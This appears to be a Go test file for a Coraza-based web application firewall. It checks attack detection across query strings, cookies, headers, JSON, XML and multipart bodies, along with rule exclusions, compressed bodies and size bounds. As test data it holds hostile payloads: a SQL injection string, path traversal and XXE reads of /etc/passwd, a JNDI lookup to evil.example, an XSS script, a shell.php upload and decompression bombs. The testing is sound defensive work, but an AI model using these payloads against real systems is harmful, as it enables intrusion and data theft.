package waf

import (
	"bytes"
	"compress/gzip"
	"compress/zlib"
	"fmt"
	"net/netip"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/corazawaf/coraza/v3"

	"github.com/mezusphere/mezu"
	"github.com/mezusphere/mezu/relay"
)

// visitor sends what tests judge.
var visitor = Who{"shop", netip.MustParseAddr("192.0.2.1")}

// shared is one for all tests of a run, because its rules take a moment to compile.
var shared = sync.OnceValue(func() *Firewall { return New(2, func(netip.Addr) bool { return true }) })

func firewall(t testing.TB) *Firewall {
	t.Helper()
	return shared()
}

// request is one as an edge has it, with the fields of a browser.
func request(method, target string, body int, fields ...string) *relay.Request {
	path, query, _ := strings.Cut(target, "?")
	r := &relay.Request{Method: method, Host: "shop.example", Authority: "shop.example", Path: mezu.Path{Path: path}, Framing: relay.Length, Length: int64(body)}
	if query != "" {
		r.Query = "?" + query
	}
	if body == 0 {
		r.Framing = relay.NoBody
	}
	for i, all := 0, append([]string{"User-Agent", "Mozilla/5.0 (X11; Linux x86_64) Chrome/140.0", "Accept", "*/*"}, fields...); i < len(all); i += 2 {
		r.Fields = append(r.Fields, headField(all[i], all[i+1]))
	}
	return r
}

func headField(name, value string) relay.Field {
	return relay.Field{Name: []byte(name), Value: []byte(value)}
}

// post judges a body with the defaults.
func post(t testing.TB, f *Firewall, mediaType, body string, fields ...string) Verdict {
	t.Helper()
	r := request("POST", "/items", len(body), append([]string{"Content-Type", mediaType}, fields...)...)
	v, err := f.Body(visitor, NewSettings(nil), r, KindOf(r), []byte(body))
	if err != nil {
		t.Fatal(err)
	}
	return v
}

const attack = `1' UNION SELECT password FROM users -- `

// part writes a multipart body with the boundary b.
func parts(list ...string) string {
	var b strings.Builder
	for _, p := range list {
		b.WriteString("--b\r\n" + p + "\r\n")
	}
	return b.String() + "--b--\r\n"
}

func field(name, value string) string {
	return fmt.Sprintf("Content-Disposition: form-data; name=%q\r\n\r\n%s", name, value)
}

func upload(name, file, content string) string {
	return fmt.Sprintf("Content-Disposition: form-data; name=%q; filename=%q\r\nContent-Type: application/octet-stream\r\n\r\n%s", name, file, content)
}

const multipart = "multipart/form-data; boundary=b"

func TestFirewall_FindsAttacksWhereverTheyAre(t *testing.T) {
	f := firewall(t)
	escaped := strings.NewReplacer(" ", "%20", "'", "%27").Replace(attack)
	unicode := strings.NewReplacer("'", `\u0027`, "U", `\u0055`).Replace(attack)
	for name, r := range map[string]*relay.Request{
		"query":  request("GET", "/items?id="+escaped, 0),
		"cookie": request("GET", "/items", 0, "Cookie", "a=b; id="+attack),
		"path":   request("GET", "/items/..%2f..%2f..%2fetc/passwd", 0),
		"agent":  request("GET", "/items", 0, "User-Agent", "${jndi:ldap://evil.example/a}"),
	} {
		if v, err := f.Head(visitor, NewSettings(nil), r); err != nil || v.Result != Attack || len(v.Rules) == 0 {
			t.Errorf("%s: %+v, %v", name, v, err)
		}
	}
	for name, c := range map[string][2]string{
		"form":               {"application/x-www-form-urlencoded", "a=b&id=" + escaped},
		"form, odd escape":   {"application/x-www-form-urlencoded; charset=utf-8", "a=%zz&id=" + escaped},
		"JSON":               {"application/json", `{"a":[1,{"id":"` + unicode + `"}]}`},
		"JSON of a vendor":   {"application/vnd.api+json", `{"id":"` + attack + `"}`},
		"lines of JSON":      {"application/x-ndjson", "{\"a\":1}\n{\"id\":\"" + attack + "\"}\n"},
		"a sequence":         {"application/json-seq", "\x1e1\n\x1e\"" + attack + "\"\n"},
		"text that is JSON":  {"text/plain", ` {"id":"` + unicode + `"}`},
		"text that is none":  {"text/plain", `{"id":"` + attack + `"`},
		"XML":                {"text/xml", `<?xml version="1.0"?><a><b c="d">` + attack + `</b></a>`},
		"XML, attribute":     {"application/soap+xml", `<a b="` + attack + `"/>`},
		"part":               {multipart, parts(field("a", "b"), field("id", attack))},
		"part behind a file": {multipart, parts(upload("f", "a.bin", "\x00\r\n--"), field("id", attack))},
		"JSON in a part":     {multipart, parts("Content-Disposition: form-data; name=\"a\"\r\nContent-Type: application/json\r\n\r\n{\"id\":\"" + unicode + "\"}")},
		"name of a file":     {multipart, parts(upload("f", "shell.php", "x"))},
		"name of a field":    {multipart, parts(field("<script>alert(1)</script>", "x"))},
		"field, filename*":   {multipart, parts("Content-Disposition: form-data; name=\"a\"; filename*=utf-8''a.txt\r\n\r\n" + attack)},
		"a type of a file":   {multipart, parts("Content-Disposition: form-data; name=\"a\"; filename=\"a\"\r\nContent-Type: text/plain; charset=utf-7\r\n\r\nx")},
	} {
		if v := post(t, f, c[0], c[1]); v.Result != Attack {
			t.Errorf("%s: %+v", name, v)
		}
	}
	for name, c := range map[string][2]string{
		"form":       {"application/x-www-form-urlencoded", "a=b&note=It%27s+a+nice+day"},
		"JSON":       {"application/json", `{"a":[1,2.5,null,true],"note":"a \"quoted\" word"}`},
		"empty JSON": {"application/json", `{}`},
		"XML":        {"application/xml", `<a><b>text</b></a>`},
		"parts":      {multipart, parts(field("a", "b"), upload("f", "a.jpg", attack))},
		"no part":    {multipart, "--b--"},
		"image":      {"image/png", attack},
	} {
		if v := post(t, f, c[0], c[1]); v.Result != Passes || v.Score != 0 {
			t.Errorf("%s: %+v", name, v)
		}
	}
}

func TestNewSettings_Exclusions(t *testing.T) {
	f := New(2, func(netip.Addr) bool { return true })
	judge := func(s *mezu.WAFSettings, target string) Verdict {
		t.Helper()
		v, err := f.Head(visitor, NewSettings(s), request("GET", target, 0))
		if err != nil {
			t.Fatal(err)
		}
		return v
	}
	const target = "/items?comment=%3Cscript%3Ealert(1)%3C/script%3E"
	found := judge(nil, target)
	if found.Result != Attack || len(found.Rules) < 2 {
		t.Fatalf("%+v", found)
	}
	var field, rule, glob []mezu.WAFExclusion
	for _, id := range found.Rules {
		field = append(field, mezu.WAFExclusion{Rule: id, Target: "ARGS:Comment"})
		glob = append(glob, mezu.WAFExclusion{Rule: id, Target: "ARGS:com*t"})
		rule = append(rule, mezu.WAFExclusion{Rule: id})
	}
	unknown := mezu.WAFExclusion{Rule: 948_999, Target: "ARGS:a"}
	for name, list := range map[string][]mezu.WAFExclusion{"field": field, "rule": rule, "glob": glob, "unknown beside": append(slices.Clone(field), unknown)} {
		if v := judge(&mezu.WAFSettings{Exclude: list}, target); v.Result != Passes || v.Score != 0 {
			t.Errorf("%s: %+v", name, v)
		}
	}
	if v := judge(&mezu.WAFSettings{Exclude: field}, "/items?other=%3Cscript%3Ealert(1)%3C/script%3E"); v.Result != Attack {
		t.Errorf("another field: %+v", v)
	}
	if v := judge(&mezu.WAFSettings{Threshold: 100}, target); v.Result != Passes || v.Score != found.Score {
		t.Errorf("below the threshold: %+v", v)
	}
	if low, high := judge(&mezu.WAFSettings{Paranoia: 1}, "/items?a=%7E%7E%7E%7E"), judge(&mezu.WAFSettings{Paranoia: 4}, "/items?a=%7E%7E%7E%7E"); low.Score >= high.Score {
		t.Errorf("level 1 finds %d, level 4 %d", low.Score, high.Score)
	}
	if n := len(f.sets); n != 5 {
		t.Errorf("%d sets for 5 lists of exclusions", n)
	}
}

// However many lists of exclusions there are, few of them are kept.
func TestFirewall_KeepsFewSets(t *testing.T) {
	if testing.Short() || os.Getenv("MEZU_SOAK") == "" {
		t.Skip("compiles a hundred sets of rules")
	}
	f := New(2, func(netip.Addr) bool { return true })
	for i := range maxSets + 5 {
		s := NewSettings(&mezu.WAFSettings{Exclude: []mezu.WAFExclusion{{Rule: 942100, Target: fmt.Sprintf("ARGS:a%d", i)}}})
		if _, err := f.Head(visitor, s, request("GET", "/", 0)); err != nil {
			t.Fatal(err)
		}
	}
	if len(f.sets) != maxSets || f.sets[""] == nil {
		t.Errorf("%d sets", len(f.sets))
	}
}

// An environment with very many lists of exclusions drives out its own.
func TestFirewall_SetsAreShared(t *testing.T) {
	f := New(2, nil)
	for i := range maxSets {
		environment := "many"
		if i < 5 {
			environment = "few"
		}
		f.uses++
		f.sets[fmt.Sprint(i)] = &set{environment: environment, used: f.uses}
	}
	f.sets[""] = f.sets["0"] // which was not used for longest, and stays
	delete(f.sets, "0")
	f.makeRoom()
	if len(f.sets) != maxSets-1 || f.sets["5"] != nil || f.sets["1"] == nil || f.sets[""] == nil {
		t.Errorf("%d sets; of many %v, of few %v", len(f.sets), f.sets["5"] != nil, f.sets["1"] != nil)
	}
}

// Rules that could not be compiled are tried again.
func TestFirewall_CompilesAgain(t *testing.T) {
	f := New(2, nil)
	now := time.Now()
	f.turns.now = func() time.Time { return now }
	t.Setenv("TMPDIR", filepath.Join(t.TempDir(), "nowhere"))
	fails := func(exclude string) {
		t.Helper()
		if _, err := f.set("", exclude); mezu.CodeOf(err) != mezu.CodeRouteUnavailable {
			t.Error(err)
		}
	}
	fails("")
	fails("SecRuleRemoveById 942100\n")
	t.Setenv("TMPDIR", t.TempDir())
	fails("SecRuleRemoveById 942100\n") // it is not tried with each request
	now = now.Add(compileAgain + 1)
	if _, err := f.set("", "SecRuleRemoveById 942100\n"); err != nil || len(f.sets) != 2 {
		t.Errorf("%d sets, %v", len(f.sets), err)
	}
}

func compress(t testing.TB, coding string, b []byte) []byte {
	t.Helper()
	var out bytes.Buffer
	var w interface {
		Write([]byte) (int, error)
		Close() error
	} = gzip.NewWriter(&out)
	if coding == "deflate" {
		w = zlib.NewWriter(&out)
	}
	if _, err := w.Write(b); err != nil {
		t.Fatal(err)
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return out.Bytes()
}

// P27: what is compressed is inflated up to a bound, one layer of it.
func TestP27_CompressedBodies(t *testing.T) {
	f := firewall(t)
	json := []byte(`{"id":"` + attack + `"}`)
	for _, coding := range []string{"gzip", "deflate"} {
		if v := post(t, f, "application/json", string(compress(t, coding, json)), "Content-Encoding", coding); v.Result != Attack {
			t.Errorf("%s: %+v", coding, v)
		}
		bomb := compress(t, coding, make([]byte, 2<<20))
		if v := post(t, f, "application/json", string(bomb), "Content-Encoding", coding); v.Result != Exceeds || v.Partial != "body" {
			t.Errorf("bomb in %s: %+v", coding, v)
		}
		half := compress(t, coding, json)
		if v := post(t, f, "application/json", string(half[:len(half)-3]), "Content-Encoding", coding); v.Result != Unreadable {
			t.Errorf("half of it in %s: %+v", coding, v)
		}
		if v := post(t, f, "application/json", string(compress(t, coding, json))+"{}", "Content-Encoding", coding); v.Result != Unreadable {
			t.Errorf("something behind %s: %+v", coding, v)
		}
		if v := post(t, f, multipart, string(compress(t, coding, []byte(parts(field("id", attack))))), "Content-Encoding", coding); v.Result != Attack {
			t.Errorf("parts in %s: %+v", coding, v)
		}
	}
	layers := compress(t, "gzip", compress(t, "gzip", json))
	if v := post(t, f, "application/json", string(layers), "Content-Encoding", strings.Repeat("gzip, ", 999)+"gzip"); v.Result != Exceeds || v.Partial != "layers" {
		t.Errorf("layers: %+v", v)
	}
	if v := post(t, f, "application/json", string(layers), "Content-Encoding", "gzip", "Content-Encoding", "gzip"); v.Result != Exceeds {
		t.Errorf("layers in two fields: %+v", v)
	}
	if v := post(t, f, "application/json", string(json), "Content-Encoding", "br"); v.Result != Unreadable {
		t.Errorf("br: %+v", v)
	}
}

// P28: time grows with a body's length, and no faster.
func TestP28_PatternsAreLinear(t *testing.T) {
	f := firewall(t)
	for _, fill := range []string{"a", "' or ", "<", "(", "\n"} {
		if v := post(t, f, "application/x-www-form-urlencoded", "a="+strings.Repeat(fill, 8<<10/len(fill))); v.Partial != "" {
			t.Errorf("%q: %+v", fill, v)
		}
	}
}

// P29: what can be read in two ways is refused.
func TestP29_AmbiguousBodies(t *testing.T) {
	f := firewall(t)
	for name, c := range map[string][2]string{
		"a key twice":                     {"application/json", `{"id":1,"id":2}`},
		"a key twice, escaped":            {"application/json", `{"id":1,"\u0069d":2}`},
		"two values":                      {"application/json", `{} {}`},
		"half a value":                    {"application/json", `{"a":`},
		"a comment":                       {"application/json", `{"a":1/*,"b":2*/}`},
		"JSON in UTF-16":                  {"application/json", "\xff\xfe{\x00}\x00"},
		"no JSON":                         {"application/json", `a=b`},
		"nothing":                         {"application/json", ` `},
		"half a document":                 {"text/xml", `<a><b>`},
		"an entity":                       {"text/xml", `<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>`},
		"an unknown entity":               {"text/xml", `<a>&x;</a>`},
		"two documents":                   {"text/xml", `<a/><b/>`},
		"another encoding":                {"text/xml", `<?xml version="1.0" encoding="utf-7"?><a/>`},
		"no boundary":                     {"multipart/form-data", parts(field("a", "b"))},
		"two boundaries":                  {"multipart/form-data; boundary=b; boundary=c", parts(field("a", "b"))},
		"another boundary":                {"multipart/form-data; boundary=c", parts(field("a", "b"))},
		"a boundary with a quote in it":   {`multipart/form-data; boundary="b\"c"`, parts(field("a", "b"))},
		"something before":                {multipart, "x\r\n" + parts(field("a", "b"))},
		"something behind":                {multipart, parts(field("a", "b")) + "--b\r\n" + field("id", attack)},
		"no end":                          {multipart, "--b\r\n" + field("a", "b") + "\r\n"},
		"a longer boundary":               {multipart, "--b\r\n" + field("a", "x\r\n--bc") + "\r\n--b--\r\n"},
		"a boundary and a space":          {multipart, "--b \r\n" + field("a", "b") + "\r\n--b--\r\n"},
		"lines without CR":                {multipart, strings.ReplaceAll(parts(field("a", "b")), "\r\n", "\n")},
		"one line without CR":             {multipart, parts(upload("a", "a.txt", "x\n--b\r\n"+field("id", attack)))},
		"a field of a part twice":         {multipart, parts("Content-Disposition: form-data; name=\"a\"\r\nContent-Disposition: form-data; name=\"b\"\r\n\r\nx")},
		"a name twice":                    {multipart, parts("Content-Disposition: form-data; name=\"a\"; name=\"b\"\r\n\r\nx")},
		"a field over two lines":          {multipart, parts("Content-Disposition: form-data;\r\n name=\"a\"\r\n\r\nx")},
		"parts in a part":                 {multipart, parts("Content-Type: multipart/mixed; boundary=c\r\n\r\n--c--")},
		"JSON in a part with a key twice": {multipart, parts("Content-Disposition: form-data; name=\"a\"\r\nContent-Type: application/json\r\n\r\n{\"a\":1,\"a\":2}")},
	} {
		if v := post(t, f, c[0], c[1]); v.Result != Unreadable || v.Code() != mezu.CodeForbidden || v.Partial == "" {
			t.Errorf("%s: %+v", name, v)
		}
	}
	if v := post(t, f, "text/plain", "id="+attack, "Content-Type", "application/json"); v.Result != Unreadable {
		t.Errorf("two media types: %+v", v)
	}
}

// P30: what is over a bound is told, and never half looked at.
func TestP30_Bounds(t *testing.T) {
	f := firewall(t)
	values := func(n int, one, between string) string {
		return strings.TrimSuffix(strings.Repeat(one+between, n), between)
	}
	numbered := func(n int, format string) string {
		var b strings.Builder
		for i := range n {
			fmt.Fprintf(&b, format, i)
		}
		return b.String()
	}
	body := int(mezu.DefaultWAFBody)
	for name, c := range map[string]struct{ mediaType, body, partial string }{
		"values of a form":  {"application/x-www-form-urlencoded", values(MaxValues+1, "a=1", "&"), "values"},
		"values of JSON":    {"application/json", "[" + values(MaxValues+1, "1", ",") + "]", "values"},
		"values of XML":     {"text/xml", "<a>" + values(MaxValues+1, "<b>1</b>", "") + "</a>", "values"},
		"attributes of XML": {"text/xml", "<a " + numbered(MaxValues+1, "a%d='1' ") + "/>", "values"},
		"parts":             {multipart, parts(slices.Repeat([]string{field("a", "1")}, MaxValues+1)...), "values"},
		"files":             {multipart, parts(slices.Repeat([]string{upload("a", "a.jpg", "1")}, MaxValues+1)...), "values"},
		"depth of JSON":     {"application/json", strings.Repeat("[", MaxDepth+1) + strings.Repeat("]", MaxDepth+1), "depth"},
		"a million deep":    {"application/json", strings.Repeat("[", body), "depth"},
		"depth of XML":      {"text/xml", strings.Repeat("<a>", MaxDepth+1) + strings.Repeat("</a>", MaxDepth+1), "depth"},
		"a form":            {"application/x-www-form-urlencoded", "a=" + strings.Repeat("a", body), "body"},
		"JSON":              {"application/json", `"` + strings.Repeat("a", body) + `"`, "body"},
		"XML":               {"text/xml", "<a>" + strings.Repeat("a", body) + "</a>", "body"},
		"a part":            {multipart, parts(field("a", strings.Repeat("a", body+1))), "body"},
		"a part's head":     {multipart, parts("X: " + strings.Repeat("a", maxPartHead) + "\r\n\r\nx"), "part"},
		"a part's fields":   {multipart, parts(numbered(maxPartFields+1, "X%d: 1\r\n") + "\r\nx"), "part"},
		"paths":             {"application/json", `{"` + strings.Repeat("a", 1000) + `":[` + values(100, "1", ",") + `]}`, "bytes"},
	} {
		if v := post(t, f, c.mediaType, c.body); v.Result != Exceeds || v.Partial != c.partial || v.Code() != mezu.CodeBodyTooLarge {
			t.Errorf("%s: %+v", name, v)
		}
	}
	for name, r := range map[string]*relay.Request{
		"8,000 query values": request("GET", "/?"+values(8000, "a", "&"), 0),
		"cookies":            request("GET", "/", 0, "Cookie", values(MaxValues+1, "a=1", ";")),
		"both":               request("GET", "/?"+values(MaxValues/2+1, "a", "&"), 0, "Cookie", values(MaxValues/2, "a=1", ";")),
		"their bytes":        request("GET", "/?a="+strings.Repeat("a", maxHeadBytes/2), 0, "Cookie", "a="+strings.Repeat("a", maxHeadBytes/2)),
	} {
		if v, err := f.Head(visitor, NewSettings(nil), r); err != nil || v.Result != Exceeds || v.Partial == "" {
			t.Errorf("%s: %+v, %v", name, v, err)
		}
	}
	r := request("POST", "/?"+values(MaxValues/2+1, "a", "&"), 10, "Content-Type", "application/json")
	if v, err := f.Body(visitor, NewSettings(nil), r, JSON, []byte("["+values(MaxValues/2, "1", ",")+"]")); err != nil || v.Partial != "values" {
		t.Errorf("query and body together: %+v, %v", v, err)
	}
}

// send sends a body to an Upload in pieces, and gives what passes, up to a verdict that is no pass.
func send(t testing.TB, f *Firewall, body string, piece int) (passed string, v Verdict) {
	t.Helper()
	u := f.Upload(visitor, NewSettings(nil), request("POST", "/items", len(body), "Content-Type", multipart))
	for rest := []byte(body); ; {
		n := min(piece, len(rest))
		due := u.Write(rest[:n])
		rest = rest[n:]
		if n == 0 {
			u.End()
			due = true
		}
		if due {
			var err error
			if v, err = u.Judge(); err != nil {
				t.Fatal(err)
			}
			if v.Result != Passes {
				return passed, v
			}
		}
		passed += string(u.Pass(n == 0))
		if n == 0 {
			return passed, v
		}
	}
}

// Files pass as they come. Fields, and the heads of files, are judged before.
func TestUpload(t *testing.T) {
	f := firewall(t)
	file := strings.Repeat("\x00\r\n--\r\n", 1500)
	good := parts(field("a", "b"), upload("f", "a.bin", file), upload("f", "b.bin", ""), field("c", "d"))
	for _, piece := range []int{7, 1000, len(good)} {
		if passed, v := send(t, f, good, piece); passed != good || v.Result != Passes {
			t.Errorf("in pieces of %d: %d of %d bytes, %+v", piece, len(passed), len(good), v)
		}
	}
	bad := parts(upload("f", "a.bin", file), field("id", attack))
	for _, piece := range []int{1000, len(bad)} {
		passed, v := send(t, f, bad, piece)
		if v.Result != Attack || strings.Contains(passed, "UNION") || piece == 1000 && len(passed) < len(file)-2000 {
			t.Errorf("in pieces of %d: %d of %d bytes, %+v", piece, len(passed), len(bad), v)
		}
	}
	if passed, v := send(t, f, parts(field("id", attack), upload("f", "a.bin", file)), 100); passed != "" || v.Result != Attack {
		t.Errorf("%d bytes passed, %+v", len(passed), v)
	}
	if passed, v := send(t, f, parts(upload("f", "shell.php", file)), 100); passed != "" || v.Result != Attack {
		t.Errorf("%d bytes passed, %+v", len(passed), v)
	}
	// Scores of what comes apart add up: neither alone is an attack.
	half := parts(field("a", "x' or 1=1"), upload("f", "a.bin", file))
	if _, v := send(t, f, half, 1000); v.Result == Passes && v.Score > 0 {
		if _, v = send(t, f, parts(field("a", "x' or 1=1"), upload("f", "a.bin", file), field("a", "x' or 1=1")), 1000); v.Score < 2 {
			t.Errorf("%+v", v)
		}
	}
	if passed, v := send(t, f, good[:len(good)-10], 1000); v.Result != Unreadable || strings.Contains(passed, `"c"`) {
		t.Errorf("%d bytes passed, %+v", len(passed), v)
	}
}

// What is in files is held only as far as a boundary is long.
func TestUpload_HoldsNoFile(t *testing.T) {
	f := firewall(t)
	u := f.Upload(visitor, NewSettings(nil), request("POST", "/items", 0, "Content-Type", multipart))
	u.Write([]byte("--b\r\n" + upload("f", "a.bin", "")))
	if v, err := u.Judge(); err != nil || v.Result != Passes {
		t.Fatal(v, err)
	}
	for range 100 {
		u.Write(make([]byte, 16<<10))
		u.Pass(false)
		if len(u.held) > 100 || len(u.scan.pending) > 100 {
			t.Fatalf("%d bytes held, %d in the scanner", len(u.held), len(u.scan.pending))
		}
	}
}

func TestFirewall_TakesNoTemporaryFile(t *testing.T) {
	f := firewall(t)
	post(t, f, multipart, parts(field("a", "b"))) // the rules are compiled, which looks whether one could be made
	t.Setenv("TMPDIR", t.TempDir()+"/none")
	for _, c := range [][2]string{{multipart, parts(upload("f", "a.bin", strings.Repeat("a", 60000)), field("a", "b"))}, {"application/json", `{}`}, {"application/x-www-form-urlencoded", "a=b"}} {
		if v := post(t, f, c[0], c[1]); v.Result != Passes {
			t.Errorf("%s: %+v", c[0], v)
		}
	}
}

// A second media type is no way to have a body not looked at: most workloads go by the first.
func TestFirewall_TwoMediaTypesAreUnreadable(t *testing.T) {
	for _, second := range []string{"application/grpc", "application/connect+json", "application/json", "image/png"} {
		r := request("POST", "/items", 1, "Content-Type", "application/json", "Content-Type", second)
		if k := KindOf(r); k != Unknown {
			t.Errorf("%s: kind %d", second, k)
		}
	}
}

// While the rules of one environment are compiled, the requests of others are judged.
func TestFirewall_JudgesWhileRulesAreCompiled(t *testing.T) {
	f := firewall(t)
	begun, release := make(chan struct{}), make(chan struct{})
	f.mu.Lock()
	f.sets["slow"] = &set{rules: sync.OnceValues(func() (coraza.WAF, error) {
		close(begun)
		<-release
		return f.compileSet("")
	})}
	f.mu.Unlock()
	compiled, judged := make(chan struct{}), make(chan struct{})
	go func() { f.set("", "slow"); close(compiled) }()
	<-begun
	go func() { post(t, f, "application/json", `{"a":1}`); close(judged) }()
	select {
	case <-judged:
	case <-time.After(10 * time.Second):
		t.Error("a request waits for rules that are not its own")
	}
	close(release)
	<-compiled
	<-judged
	f.mu.Lock()
	delete(f.sets, "slow")
	f.mu.Unlock()
}

// A body of which nothing comes is no unreadable one: in chunks, or in HTTP/2, its head does not say
// that it is empty.
func TestFirewall_EmptyBody(t *testing.T) {
	for _, mediaType := range []string{"application/json", "application/xml", "application/x-www-form-urlencoded", "application/x-ndjson"} {
		r := request("POST", "/items", 0, "Content-Type", mediaType)
		r.Framing = relay.Chunked
		v, err := firewall(t).Body(visitor, NewSettings(nil), r, KindOf(r), nil)
		if err != nil || v.Result != Passes {
			t.Errorf("%q: %+v, %v", mediaType, v, err)
		}
	}
}

// A long field costs as much as a long value, so it has no turn that is kept for what is light.
func TestLongHead(t *testing.T) {
	if n := longHead(request("GET", "/items", 0, "Authorization", strings.Repeat("a", 4<<10))); n != 0 {
		t.Errorf("a usual one is %d bytes longer", n)
	}
	for name, r := range map[string]*relay.Request{
		"field": request("GET", "/items", 0, "Referer", strings.Repeat("a", 12<<10)),
		"path":  request("GET", "/"+strings.Repeat("a", 12<<10), 0),
	} {
		if n := longHead(r); n <= lightBytes {
			t.Errorf("%s: %d bytes longer are light", name, n)
		}
	}
}

// What may be written of exclusions compiles: rules that don't would refuse all requests.
func TestExclusions_Compile(t *testing.T) {
	f := firewall(t)
	var all []mezu.WAFExclusion
	for _, c := range []string{"ARGS", "ARGS_NAMES", "REQUEST_COOKIES", "REQUEST_COOKIES_NAMES", "REQUEST_HEADERS", "FILES", "FILES_NAMES", "XML", "REQUEST_FILENAME", "REQUEST_URI", "REQUEST_BODY"} {
		for _, name := range []string{"", ":comment", ":a.b[0]", ":a*", ":*"} {
			x := mezu.WAFExclusion{Rule: 942100, Target: c + name}
			e := mezu.Environment{Name: "a", WAFSettings: &mezu.WAFSettings{Exclude: []mezu.WAFExclusion{x}}}
			if e.Validate() == nil {
				all = append(all, x)
			}
		}
	}
	if len(all) != 8*5+3 {
		t.Errorf("%d may be written", len(all))
	}
	if _, err := f.set("", NewSettings(&mezu.WAFSettings{Exclude: all}).exclude); err != nil {
		t.Error(err)
	}
}
